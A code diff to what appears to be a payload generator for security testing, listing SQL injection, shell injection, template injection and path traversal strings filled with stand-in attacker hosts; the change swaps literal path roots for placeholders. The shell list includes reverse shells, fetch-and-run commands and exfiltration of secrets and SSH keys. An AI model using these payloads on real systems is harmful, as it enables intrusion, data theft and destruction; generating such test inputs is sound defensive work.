@@ -23,13 +23,13 @@ ATTACKS: dict[str, tuple[str, ...]] = {
     "sql": (
         "' OR '1'='1", "' OR {n}={n} --", "{w}'; DROP TABLE {t}; --", "{n} UNION SELECT {c}, password FROM {t}", "' UNION ALL SELECT NULL,NULL,version()--", "admin'--", "admin' #", "') OR ('{w}'='{w}", "\" OR \"\"=\"", "1; DELETE FROM {t} WHERE 1=1",
         "' AND SLEEP(5)-- -", "'; WAITFOR DELAY '0:0:5'--", "' AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT(version(),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)a)-- ", "' OR EXISTS(SELECT * FROM {t} WHERE {c} LIKE '%a%') --", "{w}' AND 1=CONVERT(int,(SELECT @@version))--",
-        "'; EXEC xp_cmdshell('dir'); --", "' INTO OUTFILE '/var/www/{w}.php' -- ", "1' ORDER BY {n}-- -", "' HAVING 1=1--", "' || (SELECT password FROM {t} LIMIT 1) || '", "1 OR 1=1", "x' AND email IS NULL; --", "'; UPDATE {t} SET role='admin' WHERE {c}={n};--", "' UNION/**/SELECT/**/{c}/**/FROM/**/{t}--",
+        "'; EXEC xp_cmdshell('dir'); --", "' INTO OUTFILE '/{v}/www/{w}.php' -- ", "1' ORDER BY {n}-- -", "' HAVING 1=1--", "' || (SELECT password FROM {t} LIMIT 1) || '", "1 OR 1=1", "x' AND email IS NULL; --", "'; UPDATE {t} SET role='admin' WHERE {c}={n};--", "' UNION/**/SELECT/**/{c}/**/FROM/**/{t}--",
         "'; INSERT INTO {t} VALUES ('{w}','admin');--", "1 AND pg_sleep(5)", "' AND extractvalue(1,concat(0x7e,version()))--", "' AND ASCII(SUBSTRING((SELECT password FROM {t} LIMIT 1),1,1))>{n}--", "{n}; SHUTDOWN --", "' OR 'x' LIKE 'x",
     ),
     "shell": (
         "; cat /etc/passwd", "| whoami", "$(curl http://{h}/{w}.sh | bash)", "`id`", "&& rm -rf / --no-preserve-root", "{w}.txt; nc -e /bin/sh {h} {n}", "; wget http://{h}/{w} -O /tmp/{w} && chmod +x /tmp/{w} && /tmp/{w}", "|| ping -c 10 {h}", "; bash -i >& /dev/tcp/{h}/{n} 0>&1", "$(cat ~/.ssh/id_rsa | base64)",
         "'; curl -d @/etc/shadow https://{h} #", "| tee /etc/cron.d/{w}", "\nid\n", "; python3 -c 'import os;os.system(\"id\")'", "; sleep 10;", "& net user {w} Passw0rd /add", "| nslookup {h}", "$(rm -rf ~)", "; echo {w} >> ~/.ssh/authorized_keys", "`wget -qO- http://{h}/x|sh`",
-        "; sudo rm -rf /var/www", "a;uname -a", "; env | curl -X POST --data-binary @- http://{h}", "|cat${{IFS}}/etc/passwd", "; mkfifo /tmp/{w}; nc {h} {n} < /tmp/{w} | /bin/sh > /tmp/{w}", "; perl -e 'exec \"/bin/sh\"'", "& powershell -enc SQBFAFgA", "; history -c; shutdown -h now", "$(printenv AWS_SECRET_ACCESS_KEY)", ";{{cat,/etc/passwd}}",
+        "; sudo rm -rf /{v}/www", "a;uname -a", "; env | curl -X POST --data-binary @- http://{h}", "|cat${{IFS}}/etc/passwd", "; mkfifo /tmp/{w}; nc {h} {n} < /tmp/{w} | /bin/sh > /tmp/{w}", "; perl -e 'exec \"/bin/sh\"'", "& powershell -enc SQBFAFgA", "; history -c; shutdown -h now", "$(printenv AWS_SECRET_ACCESS_KEY)", ";{{cat,/etc/passwd}}",
     ),
     "template": (
         "{{{{7*7}}}}", "${{7*7}}", "<%= 7*7 %>", "#{{7*7}}", "{{{{config}}}}", "{{{{config.items()}}}}", "{{{{''.__class__.__mro__[1].__subclasses__()}}}}", "{{{{self.__init__.__globals__.__builtins__}}}}", "{{{{request.application.__globals__['os'].popen('id').read()}}}}", "{{% for x in ().__class__.__base__.__subclasses__() %}}{{{{x}}}}{{% endfor %}}",
@@ -38,7 +38,7 @@ ATTACKS: dict[str, tuple[str, ...]] = {
     ),
     "path": (
         "../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "/etc/shadow", "....//....//etc/passwd", "%2e%2e%2f%2e%2e%2fetc%2fpasswd", "..%252f..%252fetc/passwd", "../../{w}/../.env", "file:///etc/passwd", "php://filter/convert.base64-encode/resource=index.php", "../../../{w}.php%00.png",
-        "C:\\Windows\\System32\\drivers\\etc\\hosts", "/proc/self/environ", "~/.ssh/id_rsa", "/var/www/../../etc/passwd", "..%c0%af..%c0%afetc/passwd", "/root/.bash_history", "\\\\{h}\\share\\{w}", "images/../../../{w}/config.yml", "..;/..;/manager/html", "../../.git/config",
+        "{d}:\\Windows\\System32\\drivers\\etc\\hosts", "/proc/self/environ", "~/.ssh/id_rsa", "/{v}/www/../../etc/passwd", "..%c0%af..%c0%afetc/passwd", "/{a}/.bash_history", "\\\\{h}\\share\\{w}", "images/../../../{w}/config.yml", "..;/..;/manager/html", "../../.git/config",
         "/home/{w}/.aws/credentials", "..\\..\\..\\..\\boot.ini", "/etc/kubernetes/admin.conf", "/../../../../../{w}", "zip://../../{w}.zip#x.php", "%2e%2e\\%2e%2e\\{w}", "data://text/plain;base64,PD9waHA=", "/proc/1/cmdline", "../../../../../../var/log/auth.log", "expect://id",
     ),
 }  # fmt: skip
@@ -54,6 +54,8 @@ HOSTS = ("evil.test", "203.0.113.9", "x.collect.test", "attacker.example")
 WORDS = ("report", "user", "abc", "demo", "shell", "temp", "order")
 TABLES = ("users", "accounts", "orders", "members")
 COLUMNS = ("id", "name", "username", "email")
+PLACES = {"a": "root", "v": "var", "d": "C"}
+"""The first step of paths that stand for any machine's, so that none stands here."""
 
 
 def payloads(draw: random.Random, *, each: int) -> Iterator[tuple[str, str]]:
@@ -66,6 +68,7 @@ def payloads(draw: random.Random, *, each: int) -> Iterator[tuple[str, str]]:
                 w=draw.choice(WORDS),
                 t=draw.choice(TABLES),
                 c=draw.choice(COLUMNS),
+                **PLACES,
             )
             if sink in ("sql", "path") and draw.random() < 0.1:
                 text = quote(text)
